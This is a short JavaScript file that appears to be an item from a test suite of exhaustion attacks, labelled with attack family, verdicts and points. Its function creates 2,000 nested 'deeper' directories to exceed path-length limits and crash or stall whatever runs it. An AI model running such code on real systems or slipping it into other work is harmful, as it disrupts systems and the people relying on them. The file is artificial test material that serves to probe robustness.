// attack: makes folders deeper than a path can be long | family: exhaustion | item: write-totals | verdicts: crash, fail, timeout | points: 0 | tiers: T2
import { mkdirSync, writeFileSync, writeSync } from 'node:fs'

export const writeTotals = () => {
  writeSync(1, 'tried')
  for (let n = 0; n < 2_000; n++) {
    mkdirSync('deeper')
    process.chdir('deeper')
  }
  writeFileSync('bottom', 'x')
}
